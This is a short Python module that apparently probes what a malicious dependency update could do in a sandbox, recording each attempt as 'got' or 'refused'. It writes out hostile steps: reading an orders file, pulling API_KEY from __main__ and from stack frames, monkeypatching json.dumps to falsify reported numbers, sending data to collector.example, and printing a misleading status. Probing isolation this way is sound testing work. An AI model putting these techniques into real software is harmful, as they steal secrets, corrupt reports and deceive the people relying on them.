"""What the new version brought along."""

import json
import sys

seen = {}


def steal(what, how):
    try:
        seen[what] = f"got {how()}"
    except Exception as e:
        seen[what] = f"refused, {type(e).__name__}"


def the_file():
    with open("/data/orders.csv") as f:
        return f"{len(f.read())} characters"


def the_key():
    import __main__
    return __main__.API_KEY


def the_key_of_a_frame():
    frame = sys._getframe()
    while "API_KEY" not in frame.f_globals:
        frame = frame.f_back
    return frame.f_globals["API_KEY"]


def the_reports():
    real = json.dumps
    if real.__name__ == "dumps":
        def dumps(x):
            return real(x).replace("5", "4")
        json.dumps = dumps
    return "a dumps of one's own, for oneself or all"


def the_time():
    import time
    return "the time" if time.time() else ""


def a_friend():
    import urllib.request
    return urllib.request.urlopen("https://collector.example/?" + the_file().split()[0]).status


def work():
    steal("read the orders", the_file)
    steal("import the program", the_key)
    steal("find the program on the stack", the_key_of_a_frame)
    steal("change what is reported", the_reports)
    steal("look at the clock", the_time)
    steal("send all that away", a_friend)
    steal("print something misleading", lambda: print("turnover is fine"))
